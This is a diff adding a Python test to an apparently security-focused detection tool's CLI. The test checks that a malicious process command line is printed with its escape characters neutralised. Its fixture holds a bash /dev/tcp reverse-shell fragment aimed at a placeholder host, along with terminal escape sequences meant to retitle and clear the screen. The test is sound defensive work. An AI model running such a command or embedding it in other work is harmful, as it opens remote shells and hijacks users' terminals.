@@ -506,3 +506,13 @@ def test_a_rule_that_does_not_load_is_named_the_others_run_and_the_exit_is_one(r
     assert f"{root_only / 'rules.yml'}" in r.stderr and OWN_RULE in r.stderr
     assert "/tmp/ringfence-replay-" not in r.stderr
     assert "ringfence.sigma: a content problem (above): exit status 1" in r.stderr
+
+
+def test_an_attackers_command_line_cannot_drive_the_terminal(root_only) -> None:
+    evil = msgspec.structs.replace(
+        SHELL, cmdline=("bash", "-c", "\x1b]0;owned\x07\x1b[2J exec 3<>/dev/tcp/h/1")
+    )
+    r = _cli(str(_write(root_only / "e.jsonl", _exec(1, evil))))
+    assert r.returncode == 0, r.stderr
+    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
+    assert "\\x1b]0;owned\\x07\\x1b[2J exec 3<>/dev/tcp/h/1" in r.stdout
